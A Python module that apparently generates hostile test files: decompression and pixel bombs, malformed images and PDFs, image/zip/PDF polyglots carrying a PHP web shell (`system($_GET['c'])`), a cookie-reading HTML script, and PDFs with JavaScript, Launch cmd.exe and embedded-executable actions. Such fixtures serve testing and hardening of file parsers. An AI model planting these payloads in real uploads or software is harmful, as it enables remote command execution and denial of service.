"""Files made to hurt who opens them: bombs, polyglots, and documents that would act. Each is small and made by code."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from PIL import Image

PNG = b"\x89PNG\r\n\x1a\n"
JPEG_END = b"\xff\xd9"


def bombs() -> dict[str, bytes]:
    """Return all of them by name. A name says what the file is; none of its endings are to be believed."""
    return {name: make() for name, make in (_PICTURES | _POLYGLOTS | _PDFS | _OTHERS).items()}


def picture(kind: str = "JPEG", size: tuple[int, int] = (600, 840), **options: Any) -> bytes:
    drawn = io.BytesIO()
    Image.effect_noise(size, 40).convert("RGB").save(drawn, kind, **options)
    return drawn.getvalue()


def pdf(change: Callable[[pikepdf.Pdf], object] = lambda _document: None, **saving: Any) -> bytes:
    """Return a PDF of one page after `change` did its worst to it."""
    written = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        change(document)
        document.save(written, **saving)
    return written.getvalue()


# --- Pictures --------------------------------------------------------------------------------------------------------


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, data: bytes, *, colour: int = 0, depth: int = 8, extra: bytes = b"") -> bytes:
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return PNG + _chunk(b"IHDR", header) + extra + _chunk(b"IDAT", zlib.compress(data, 9)) + _chunk(b"IEND", b"")


def _narrow_jpeg(*, progressive: bool) -> bytes:
    drawn = io.BytesIO()
    Image.new("L", (65327, 169), 128).save(drawn, "JPEG", progressive=progressive)
    return drawn.getvalue()


def _many_scans() -> bytes:
    """A progressive JPEG whose last scan comes back hundreds of times: each makes a decoder go over all of it."""
    drawn = io.BytesIO()
    Image.new("RGB", (5000, 5000), "#804020").save(drawn, "JPEG", progressive=True)
    content = drawn.getvalue()
    last = content.rindex(b"\xff\xda")
    return content[:last] + content[last : -len(JPEG_END)] * 900 + JPEG_END


def _jpeg_of(width: int, height: int) -> bytes:
    """A JPEG whose header claims another size than it has."""
    content = bytearray(picture())
    at = content.index(b"\xff\xc0")
    content[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(content)


def _gif(frames: int) -> bytes:
    drawn = io.BytesIO()
    first, *others = (Image.new("P", (300, 300), number % 250) for number in range(frames))
    first.save(drawn, "GIF", save_all=True, append_images=others, optimize=False, disposal=0)
    return drawn.getvalue()


def _gif_screen() -> bytes:
    """A GIF of 43 bytes whose screen has four thousand million pixels."""
    return (
        b"GIF89a"
        + struct.pack("<HHBBB", 65535, 65535, 0x80, 0, 0)
        + bytes(6)
        + (b"," + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0) + b"\x02\x02D\x01\x00;")
    )


def _tiff(tags: dict[int, tuple[int, int, int]]) -> bytes:
    """A TIFF of one directory: tag → (type, count, value)."""
    entries = b"".join(struct.pack("<HHII", tag, *tags[tag]) for tag in sorted(tags))
    return struct.pack("<2sHIH", b"II", 42, 8, len(tags)) + entries + bytes(4) + bytes(200)


def _bmp(width: int, height: int) -> bytes:
    return struct.pack("<2sIII", b"BM", 54, 0, 54) + struct.pack(
        "<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 0, 0, 0, 0
    )


def _webp(width: int, height: int) -> bytes:
    extended = struct.pack("<I", 0)[:4] + struct.pack("<I", width - 1)[:3] + struct.pack("<I", height - 1)[:3]
    body = b"WEBPVP8X" + struct.pack("<I", 10) + extended
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _exif_of_lies() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 60000
    exif[0x010E] = "A" * 60000
    return picture(exif=exif)


def _cut(content: bytes, part: float) -> bytes:
    return content[: int(len(content) * part)]


_PICTURES: dict[str, Callable[[], bytes]] = {
    "png of 900 million pixels": lambda: _png(30_000, 30_000, bytes(600_000)),
    "png of 16 bits, 90 million pixels": lambda: _png(9_500, 9_500, bytes(200_000), colour=6, depth=16),
    "png of just 40 million pixels": lambda: _png(6_320, 6_320, bytes(6_321 * 6_320)),
    "png whose lines end early": lambda: _png(4_000, 4_000, bytes(100)),
    "png with a text of 60 MB": lambda: _png(
        10, 10, bytes(110), extra=_chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(60_000_000), 9))
    ),
    "png with a colour profile of 60 MB": lambda: _png(
        10, 10, bytes(110), extra=_chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(60_000_000), 9))
    ),
    "png with ten thousand chunks": lambda: _png(10, 10, bytes(110), extra=_chunk(b"tEXt", b"a\0b") * 10_000),
    "png with a wrong sum": lambda: picture("PNG")[:-20] + b"\0" * 20,
    "jpeg of 65327 by 169": lambda: _narrow_jpeg(progressive=False),
    "jpeg of 65327 by 169, progressive": lambda: _narrow_jpeg(progressive=True),
    "jpeg of nine hundred scans": _many_scans,
    "jpeg that claims 65500 by 65500": lambda: _jpeg_of(65500, 65500),
    "jpeg that claims 14000 by 14000": lambda: _jpeg_of(14000, 14000),
    "jpeg that claims nothing": lambda: _jpeg_of(0, 0),
    "jpeg cut in half": lambda: _cut(picture(), 0.5),
    "jpeg of noise, 20 million pixels": lambda: picture(size=(5200, 4000), quality=97),
    "jpeg with an exif of lies": _exif_of_lies,
    "gif of 400 frames": lambda: _gif(400),
    "gif of a screen of 4 thousand million pixels": _gif_screen,
    "tiff that claims 400 million pixels": lambda: _tiff(
        {256: (4, 1, 20000), 257: (4, 1, 20000), 258: (3, 1, 8), 259: (3, 1, 1), 262: (3, 1, 1), 273: (4, 1, 8)}
    ),
    "tiff with a count of 4 thousand million": lambda: _tiff(
        {256: (4, 1, 100), 257: (4, 1, 100), 273: (4, 0xFFFFFFFF, 8), 279: (4, 0xFFFFFFFF, 8)}
    ),
    "tiff whose directory follows itself": lambda: struct.pack("<2sHIHI", b"II", 42, 8, 0, 8),
    "bmp that claims 2 thousand million pixels": lambda: _bmp(65535, 32767),
    "bmp of a negative height": lambda: _bmp(100, -(2**31)),
    "webp that claims 16000 by 16000": lambda: _webp(16000, 16000),
}

# --- Two things at once ----------------------------------------------------------------------------------------------


def _zip(content: bytes = b"<?php system($_GET['c']); ?>") -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("shell.php", content)
    return packed.getvalue()


_PHP = b"<?php system($_GET['c']); ?>"
_HTML = b"<html><script>alert(document.cookie)</script></html>"

_POLYGLOTS: dict[str, Callable[[], bytes]] = {
    "jpeg and php": lambda: picture(comment=_PHP) + _PHP,
    "jpeg and html": lambda: picture() + _HTML,
    "jpeg and zip": lambda: picture() + _zip(),
    "png and zip": lambda: picture("PNG") + _zip(),
    "gif and javascript": lambda: b"GIF89a/*" + bytes(300) + b"*/=1;alert(1)//",
    "bmp and javascript": lambda: b"BM=1;alert(1)//" + bytes(300),
    "pdf and html": lambda: _HTML + b"\n" + pdf(),
    "pdf and zip": lambda: pdf() + _zip(),
    "pdf after 900 bytes of php": lambda: b"\n" * 10 + b"%PDF-1.4\n" + _PHP * 30 + pdf(),
    "jpeg and pdf": lambda: picture() + pdf(),
}

# --- PDFs ------------------------------------------------------------------------------------------------------------

Names = pikepdf.Name
Dict = pikepdf.Dictionary


def _action(kind: str, **values: Any) -> pikepdf.Dictionary:
    return Dict(S=pikepdf.Name(f"/{kind}"), **values)


def _opening(kind: str, **values: Any) -> Callable[[], bytes]:
    return lambda: pdf(lambda document: document.Root.update(Dict(OpenAction=_action(kind, **values))))


def _annotated(**values: Any) -> Callable[[], bytes]:
    def annotate(document: pikepdf.Pdf) -> None:
        box: dict[str, Any] = {"Type": Names.Annot, "Rect": [10, 10, 90, 90]}
        note = document.make_indirect(Dict(**box | values))
        document.pages[0].obj.Annots = pikepdf.Array([note])

    return lambda: pdf(annotate)


def _deep_action(document: pikepdf.Pdf) -> None:
    """A script at the end of a chain of harmless jumps."""
    action = _action("JavaScript", JS="app.alert(1)")
    for _number in range(10):
        action = _action("GoTo", Next=action)
    document.Root.OpenAction = action


def _nested_forms(document: pikepdf.Pdf) -> None:
    """Ten forms, each drawing the next one ten times: ten thousand million drawings in three kilobytes."""
    inner: pikepdf.Object = document.make_stream(
        b"0 0 m 9 9 l S", Type=Names.XObject, Subtype=Names.Form, BBox=[0, 0, 9, 9]
    )
    for _number in range(10):
        resources = Dict(XObject=Dict(F=inner))
        inner = document.make_stream(
            b"/F Do " * 10, Type=Names.XObject, Subtype=Names.Form, BBox=[0, 0, 9, 9], Resources=resources
        )
    document.pages[0].obj.Resources = Dict(XObject=Dict(F=inner))
    document.pages[0].obj.Contents = document.make_stream(b"/F Do " * 10)


def _form_in_itself(document: pikepdf.Pdf) -> None:
    form = document.make_stream(b"/F Do", Type=Names.XObject, Subtype=Names.Form, BBox=[0, 0, 9, 9])
    form.stream_dict.Resources = Dict(XObject=Dict(F=form))
    document.pages[0].obj.Resources = Dict(XObject=Dict(F=form))
    document.pages[0].obj.Contents = document.make_stream(b"/F Do")


def _packed(content: bytes, times: int = 1) -> Callable[[pikepdf.Pdf], None]:
    for _number in range(times):
        content = zlib.compress(content, 9)

    def put(document: pikepdf.Pdf) -> None:
        filters = pikepdf.Array([Names.FlateDecode] * times)
        stream = pikepdf.Stream(document, content)
        stream.stream_dict.Filter = filters if times > 1 else Names.FlateDecode
        document.pages[0].obj.Contents = document.make_indirect(stream)

    return put


def _long_work(document: pikepdf.Pdf) -> None:
    """Half a megabyte that keeps a renderer drawing: eighty million curves."""
    curve = b"0 0 m " + b"9 9 5 5 1 1 c " * 4_000 + b"S "
    inner = document.make_stream(curve, Type=Names.XObject, Subtype=Names.Form, BBox=[0, 0, 9, 9])
    document.pages[0].obj.Resources = Dict(XObject=Dict(F=inner))
    document.pages[0].obj.Contents = document.make_stream(b"/F Do " * 20_000)


def _many_objects(document: pikepdf.Pdf) -> None:
    document.Root.Heap = pikepdf.Array([document.make_indirect(Dict(A=number)) for number in range(60_000)])


def _many_pages(document: pikepdf.Pdf) -> None:
    for _number in range(400):
        document.add_blank_page()


def _huge_image(document: pikepdf.Pdf) -> None:
    image = document.make_stream(
        zlib.compress(bytes(100_000), 9),
        Type=Names.XObject,
        Subtype=Names.Image,
        Width=60_000,
        Height=60_000,
        ColorSpace=Names.DeviceGray,
        BitsPerComponent=8,
    )
    image.stream_dict.Filter = Names.FlateDecode
    document.pages[0].obj.Resources = Dict(XObject=Dict(I=image))
    document.pages[0].obj.Contents = document.make_stream(b"/I Do")


def _deep_arrays(document: pikepdf.Pdf) -> None:
    document.Root.Deep = document.make_stream(b"[" * 200_000)


def _attached(document: pikepdf.Pdf) -> None:
    file = document.make_stream(b"MZ" + bytes(100), Type=Names.EmbeddedFile)
    document.Root.Names = Dict(EmbeddedFiles=Dict(Names=["virus.exe", Dict(Type=Names.Filespec, EF=Dict(F=file))]))


def _raw_deep() -> bytes:
    return b"%PDF-1.4\n1 0 obj\n" + b"[" * 300_000 + b"]" * 300_000 + b"\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF"


def _xref_loop() -> bytes:
    body = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]>>endobj\n"
    table = b"xref\n0 1\n0000000000 65535 f \n"
    return body + table + b"trailer<</Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF" % (len(body), len(body))


_PDFS: dict[str, Callable[[], bytes]] = {
    "pdf with a script": _opening("JavaScript", JS="app.alert(1)"),
    "pdf that launches": _opening("Launch", F="cmd.exe"),
    "pdf that submits": _opening("SubmitForm", F="http://127.0.0.1/"),
    "pdf that imports": _opening("ImportData", F="secret.fdf"),
    "pdf with a script behind ten jumps": lambda: pdf(_deep_action),
    "pdf with a script on a page": lambda: pdf(
        lambda document: document.pages[0].obj.update(Dict(AA=Dict(O=_action("JavaScript", JS="1"))))
    ),
    "pdf with a film": _annotated(Subtype=Names.Movie),
    "pdf with rich media": _annotated(Subtype=Names.RichMedia),
    "pdf with a file on a page": _annotated(Subtype=Names.FileAttachment, FS=Dict(Type=Names.Filespec, F="a.exe")),
    "pdf with a button that runs": _annotated(Subtype=Names.Widget, FT=Names.Btn, A=_action("Launch", F="a.exe")),
    "pdf with an attachment": lambda: pdf(_attached),
    "pdf with a dynamic form": lambda: pdf(lambda document: document.Root.update(Dict(AcroForm=Dict(XFA="<xdp/>")))),
    "pdf portfolio": lambda: pdf(lambda document: document.Root.update(Dict(Collection=Dict()))),
    "pdf with a password": lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u")),
    "pdf of nested forms": lambda: pdf(_nested_forms),
    "pdf of a form in itself": lambda: pdf(_form_in_itself),
    "pdf whose page unpacks to 500 MB": lambda: pdf(_packed(bytes(500_000_000)), recompress_flate=False),
    "pdf whose page is packed three times": lambda: pdf(_packed(bytes(200_000_000), 3), recompress_flate=False),
    "pdf of long work": lambda: pdf(_long_work),
    "pdf of 60000 objects": lambda: pdf(_many_objects),
    "pdf of 400 pages": lambda: pdf(_many_pages),
    "pdf with an image of 3600 million pixels": lambda: pdf(_huge_image),
    "pdf of deep arrays": _raw_deep,
    "pdf of deep instructions": lambda: pdf(_deep_arrays),
    "pdf whose table follows itself": _xref_loop,
    "pdf cut in half": lambda: _cut(pdf(), 0.5),
    "pdf without pages": lambda: b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
}

# --- Neither ---------------------------------------------------------------------------------------------------------

_OTHERS: dict[str, Callable[[], bytes]] = {
    "svg with a script": lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "office document": lambda: _zip(b"<w:document/>"),
    "zip bomb": lambda: _zip(bytes(50_000_000)),
    "postscript": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100000 100000\n{} loop\n",
    "program": lambda: b"\x7fELF" + bytes(500),
    "windows program": lambda: b"MZ" + bytes(500),
    "html": lambda: _HTML,
    "one byte": lambda: b"\xff",
    "nothing but zeros": lambda: bytes(5_000_000),
}
